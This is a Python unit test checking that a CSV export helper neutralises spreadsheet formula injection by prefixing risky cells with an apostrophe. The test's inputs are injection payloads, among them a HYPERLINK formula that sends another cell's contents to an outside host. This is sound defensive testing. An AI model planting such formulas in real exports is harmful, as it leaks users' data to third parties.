"""A table opened in a spreadsheet runs no formula."""

import csv
import io

from support.each import for_each

from publicmeeting.kit.spreadsheet import comma_separated


@for_each(
    ["=1+1", "+98912", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", '=HYPERLINK("http://x.ir/"&A2,"x")']
)
def test_what_a_spreadsheet_would_carry_out_is_a_text(cell: str) -> None:
    rows = list(csv.reader(io.StringIO(comma_separated([["نام", cell], [6, -6]]), newline="")))
    assert rows == [["نام", f"'{cell}"], ["6", "-6"]]
